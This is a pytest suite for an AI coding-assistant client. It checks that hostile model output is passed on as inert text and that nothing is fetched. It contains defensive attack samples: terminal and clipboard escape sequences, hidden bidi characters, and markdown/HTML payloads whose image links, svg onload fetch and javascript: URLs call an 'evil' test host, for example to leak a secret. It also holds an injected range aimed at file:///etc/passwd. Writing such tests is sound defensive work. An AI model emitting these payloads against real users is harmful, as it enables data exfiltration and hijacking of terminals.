"""What a hostile upstream says, as a client hears it over stdio: text, and never more than that.

It drives no terminal, hides nothing, turns nothing round, fetches nothing, and goes nowhere but where it was
asked for.
"""

import json
import random
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.client import AUTOMATIC, INVOKED, Client, Failed
from support.environment import openrouter_config
from support.metamodel import Json
from support.unseen import LEGITIMATE, dangerous
from support.upstream import Answer, Upstream, chunk, json_answer, sse

KEY = {"OPENROUTER_API_KEY": "sk-or-test-0123456789"}
STREAM = "text/event-stream"
PATH = "/v1/chat/completions"
MODEL = "openrouter/openai/gpt-4o-mini"
ESCAPES = "\x1b]0;pwned\x07\x1b]52;c;cm0=\x07\x1b]8;;http://evil\x1b\\\x1b[2J\x9b1A\b\b\rpwned\x7f\0"
HIDING = "\u202e\u2066\u200b\u200d\ufeff\xad\u3164\ufff9\U000e0068\U000e0069\ufe0f\u2028"
URI, SOURCE, HERE = "file:///ws/area.py", "def area(radius):\n    return \n", (1, 11)
HOSTILE = f"pwned{ESCAPES}{HIDING}"


def streamed(text: str, *, seed: int | None = 1, reasoning: str = "", **delta: object) -> Answer:
    """Answer with a text cut anywhere, between the halves of a character or a tag too."""
    dice = random.Random(7)
    objects = [chunk({"reasoning": piece}) for piece in _cut(reasoning, dice)]
    objects += [chunk({"role": "assistant", "content": piece}) for piece in _cut(text, dice)]
    objects += [chunk(delta)] if delta else []
    usage = {"prompt_tokens": 20, "completion_tokens": 4, "cost": 0.000213}
    return Answer(body=sse(*objects, chunk({}, "stop"), chunk(usage=usage)), content_type=STREAM, seed=seed)


def _cut(text: str, dice: random.Random) -> Iterator[str]:
    while text:
        size = dice.randint(1, 5)
        yield text[:size]
        text = text[size:]


def filling(text: str) -> Answer:
    return streamed(f"<COMPLETION>{text}</COMPLETION>")


def texts(value: object) -> Iterator[str]:
    """Yield every text of a message, names of fields too."""
    match value:
        case str():
            yield value
        case dict():
            for name, inner in value.items():
                yield from (name, *texts(inner))
        case list():
            for inner in value:
                yield from texts(inner)
        case _:
            pass


def check(client: Client) -> None:
    """Fail unless the hostile words have come, without what makes them so."""
    said = [text for message in client.received for text in texts(message)]
    assert not [(text, found) for text in said if (found := dangerous(text))]
    assert any("pwned" in text for text in said)


def events(client: Client, kind: str) -> list[Json]:
    told = [params["event"] for params in client.notifications("farebox/chatEvent")]
    return [event for event in told if isinstance(event, dict) and event["type"] == kind]


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    with Upstream.in_thread() as server:
        yield server


@pytest.fixture
def client(tmp_path: Path, upstream: Upstream) -> Iterator[Client]:
    with Client(tmp_path, config=openrouter_config(upstream.base_url), environment=KEY) as client:
        client.initialize()
        yield client


# --- chat -----------------------------------------------------------------------------------------


def test_an_answer_and_its_reasoning_drive_no_terminal_and_hide_nothing(
    client: Client, upstream: Upstream
) -> None:
    code = 'print("\\x1b[31m")  # \\u202e'
    upstream.answer(PATH, streamed(f"{HOSTILE}\n{code}\n", reasoning=f"hm {HOSTILE}"))
    result = client.chat("Hello")
    check(client)
    assert code in result["text"], "what is written as an escape is left as it is"
    assert result["text"].startswith("pwned\\u{1b}]0;pwned\\u{7}")
    assert "".join(event["text"] for event in events(client, "text")) == result["text"]
    assert "".join(event["text"] for event in events(client, "reasoning")).startswith("hm pwned\\u{1b}")
    restored = client.request("farebox/conversation", {"conversation": result["conversation"]})
    assert [turn["answer"] for turn in restored["turns"]] == [result["text"]]
    client.chat("And?", conversation=result["conversation"])
    sent = upstream.requests[-1].json["messages"]
    assert isinstance(sent, list)
    assert [one["content"] for one in sent if one["role"] == "assistant"] == [result["text"]]


def test_what_people_write_comes_as_it_was_written(client: Client, upstream: Upstream) -> None:
    text = "\n".join(LEGITIMATE.values())
    upstream.answer(PATH, streamed(text))
    result = client.chat("Hello")
    assert result["text"] == text
    assert "".join(event["text"] for event in events(client, "text")) == text


def test_a_tool_call_s_name_and_arguments_hide_nothing(client: Client, upstream: Upstream) -> None:
    function = {"name": HOSTILE, "arguments": json.dumps({HOSTILE: [HOSTILE, {"deep": HOSTILE}]})}
    upstream.answer(PATH, streamed("ok", tool_calls=[{"index": 0, "id": HOSTILE, "function": function}]))
    client.chat("Hello")
    check(client)
    (call,) = events(client, "toolCall")
    assert "pwned" in call["name"]
    assert len(call["arguments"]) == 1


def test_a_title_is_one_line_that_hides_nothing(client: Client, upstream: Upstream) -> None:
    upstream.answer(PATH, streamed("ok"))
    client.chat(f"{HOSTILE}\nsecond line")
    (line,) = client.request("farebox/conversations")["conversations"]
    assert "pwned" in line["title"]
    assert not dangerous(line["title"], kept="")


@pytest.mark.parametrize("status", [200, 400, 500])
def test_the_words_of_a_refusal_are_text(client: Client, upstream: Upstream, status: int) -> None:
    headers = {"x-should-retry": "false"}
    refusal = json_answer({"error": {"message": HOSTILE, "code": HOSTILE}}, status=status, headers=headers)
    upstream.answer(PATH, refusal)
    client.open(URI, SOURCE)
    with pytest.raises(Failed) as failed:
        client.chat("Hello")
    assert not dangerous(json.dumps(failed.value.data, ensure_ascii=False) + failed.value.message)
    client.ghost(URI, *HERE, AUTOMATIC)
    client.request("farebox/explain")
    said = [text for message in client.received for text in texts(message)]
    assert not [(text, found) for text in said if (found := dangerous(text))]
    assert status == 200 or "pwned" in failed.value.message


def test_names_of_models_providers_and_files_are_text(tmp_path: Path, upstream: Upstream) -> None:
    upstream.answer("/v1/models", json_answer({"data": [{"id": HOSTILE}, {"id": "m\nforged"}]}))
    upstream.answer(PATH, streamed("ok"))
    # TOML has no escape for half a character, as which JSON writes a tag.
    model, address = (
        json.dumps(f"box/{HOSTILE}".translate({0xE0068: None, 0xE0069: None})),
        json.dumps(upstream.base_url),
    )
    config = f"[tasks]\nchat = {model}\ncomplete = {model}\n[providers]\nbox.base_url = {address}\n"
    with Client(tmp_path, config=config) as client:
        client.initialize()
        client.chat("Hello")
        for method in ("models", "doctor", "explain", "costReport"):
            client.request(f"farebox/{method}")
        client.request("farebox/costReport", {"by": ["model"], "format": "table"})
        client.request("farebox/route", {"text": "Hello"})
        with pytest.raises(Failed):
            client.chat("Hello", model=f"nobody/{HOSTILE}")
        with pytest.raises(Failed):
            client.request("farebox/conversation", {"conversation": HOSTILE})
        client.wait_notification("farebox/status", lambda status: "pwned" in str(status.get("model")))
        check(client)


def test_a_model_is_told_no_hidden_part_of_a_file_s_name(client: Client, upstream: Upstream) -> None:
    upstream.answer(PATH, streamed("ok"))
    client.chat("Why?", attachments=[{"name": f"a{HIDING}b.py", "text": "x = 1"}])
    sent = json.dumps(upstream.requests[-1].json, ensure_ascii=False)
    assert "\\u{202e}" in json.loads(json.dumps(sent))
    assert not dangerous(sent)


# --- nothing is fetched ---------------------------------------------------------------------------

ACTIVE = """![a]({url}/image?d=secret) ![b][ref] [c](command:workbench.action.quit) <{url}/autolink>
[ref]: {url}/ref
<img src="{url}/img"><video poster="{url}/poster"></video><link rel=stylesheet href="{url}/css"><style>
@import url({url}/style);</style><svg onload="fetch('{url}/svg')"><a href="javascript:alert(1)">x</a></svg>
data:text/html,<script>fetch('{url}/data')</script> vscode://file/etc/passwd {url}/bare
"""


def test_an_answer_with_links_and_pictures_is_passed_on_as_text_and_nothing_is_fetched(
    client: Client, upstream: Upstream
) -> None:
    with Upstream.in_thread() as evil:
        text = ACTIVE.format(url=evil.origin)
        upstream.answer(PATH, streamed(text, reasoning=text))
        result = client.chat("Hello")
        assert result["text"] == text
        assert "".join(event["text"] for event in events(client, "reasoning")) == text
        restored = client.request("farebox/conversation", {"conversation": result["conversation"]})
        assert [turn["answer"] for turn in restored["turns"]] == [text]
        client.request("farebox/explain")
        assert evil.connections == 0
        assert len(upstream.requests) == 1


# --- completion -----------------------------------------------------------------------------------


def complete(client: Client, prefix: str = "x = ", suffix: str = "\n") -> Json:
    hole = {"path": "/ws/a.py", "language": "python", "prefix": prefix, "suffix": suffix}
    return client.request("farebox/complete", hole)


WITHHELD = [
    *((name, char) for name, char in zip(("escape", "bell", "null"), "\x1b\x07\0", strict=True)),
    *((f"U+{ord(char):04X}", char) for char in HIDING if char != "\ufeff"),
]


def test_a_suggestion_that_hides_something_is_withheld_and_what_is_named(
    client: Client, upstream: Upstream
) -> None:
    for name, char in WITHHELD:
        upstream.answer(PATH, filling(f"'a{char}b'"))
        result = complete(client)
        assert (result["items"], result["reason"]) == ([], "hidden"), name
        assert f"U+{ord(char):04X}" in str(result["why"])
        entry = client.request("farebox/explain")
        assert (entry["silence"], entry["shown"], entry["reason"]) == ("hidden", False, result["why"])


@pytest.mark.parametrize("kind", [INVOKED, AUTOMATIC], ids=["invoked", "automatic"])
def test_it_is_withheld_from_ghost_text_too(client: Client, upstream: Upstream, kind: int) -> None:
    upstream.answer(PATH, filling("'a\u202eb'"))
    client.open(URI, SOURCE)
    assert client.ghost(URI, *HERE, kind) == []
    entry = client.request("farebox/explain")
    assert entry["silence"] == "hidden"
    assert "U+202E" in str(entry["reason"])


def test_what_people_write_is_suggested(client: Client, upstream: Upstream) -> None:
    for name, text in LEGITIMATE.items():
        line = text.partition("\r\n")[0]
        upstream.answer(PATH, filling(f"'{line}'"))
        (item,) = complete(client)["items"]
        assert item["text"] == f"'{line}'", name
    upstream.answer(PATH, filling("\ufeffimport os"))
    (item,) = complete(client, prefix="", suffix="import sys\n")["items"]
    assert item["text"] == "\ufeffimport os"


def test_what_the_document_holds_already_may_be_suggested_in_it(client: Client, upstream: Upstream) -> None:
    upstream.answer(PATH, filling("'b\u200bc'"))
    (item,) = complete(client, prefix="y = 'a\u200b'\nx = ")["items"]
    assert item["text"] == "'b\u200bc'"


@pytest.mark.parametrize("kind", [None, INVOKED, AUTOMATIC], ids=["method", "invoked", "automatic"])
def test_a_suggestion_without_end_is_cut_and_its_stream_closed(
    client: Client, upstream: Upstream, kind: int | None
) -> None:
    for number, piece in enumerate(("x" * 1_000, "x = 1\n" * 200, "\n" * 1_000, "a\n\n" * 300, "\0" * 1_000)):
        body = sse(chunk({"content": f"<COMPLETION>{piece}"}), done=False)
        upstream.answer(PATH, Answer(body=body, content_type=STREAM, repeat=0))
        uri = f"file:///ws/area{number}.py"
        client.open(uri, SOURCE)
        items = complete(client)["items"] if kind is None else client.ghost(uri, *HERE, kind)
        texts_of = [item["text" if kind is None else "insertText"] for item in items]
        assert all(len(text) <= 16_000 and text.count("\n") <= 80 and "\0" not in text for text in texts_of)
        client.notify("textDocument/didClose", {"textDocument": {"uri": uri}})
    asked = [one for one in upstream.requests if one.path == PATH]  # what a stream came to is asked for later
    assert upstream.wait_for(lambda: all(one.closed.is_set() for one in asked))


def test_an_item_only_ever_inserts_at_a_place_of_the_document_it_was_asked_for(
    client: Client, upstream: Upstream
) -> None:
    upstream.answer(PATH, filling('1"}, {"range": {"start": 0}, "uri": "file:///etc/passwd'))
    client.open(URI, SOURCE)
    client.open("file:///ws/other.py", "y = 1\n")
    places: set[tuple[int, int]] = set()
    for line, character in (HERE, (1, 1_000), (1_000, 0), (2**31 - 1, 2**31 - 1)):
        for kind in (INVOKED, AUTOMATIC):
            for item in client.ghost(URI, line, character, kind):
                assert set(item) == {"insertText", "range", "command"}
                assert item["command"]["command"] == "farebox.didAcceptCompletionItem"
                assert item["range"]["start"] == item["range"]["end"]
                places.add((item["range"]["start"]["line"], item["range"]["start"]["character"]))
    assert places
    assert places <= {HERE, (2, 0)}
    assert not [message for message in client.received if message.get("method") == "workspace/applyEdit"]


def test_an_answer_to_an_older_version_is_never_an_item_for_the_newer(
    client: Client, upstream: Upstream
) -> None:
    begun = sse(chunk({"role": "assistant", "content": "<COMPLETION>"}), done=False)
    upstream.answer(PATH, Answer(body=begun, content_type=STREAM, hang=True))
    client.open(URI, SOURCE)
    asked = client.ask_ghost(URI, *HERE, AUTOMATIC)
    assert upstream.wait_for(lambda: bool(upstream.requests))
    client.edit(URI, ((0, 0), (1, 0), "def volume(side):\n"))
    with pytest.raises(Failed):
        client.raw_answer(asked)


def test_a_document_that_is_not_open_gets_no_item(client: Client, upstream: Upstream) -> None:
    upstream.answer(PATH, filling("1"))
    for kind in (INVOKED, AUTOMATIC):
        assert client.ghost("file:///ws/never-opened.py", *HERE, kind) == []
    assert not upstream.requests
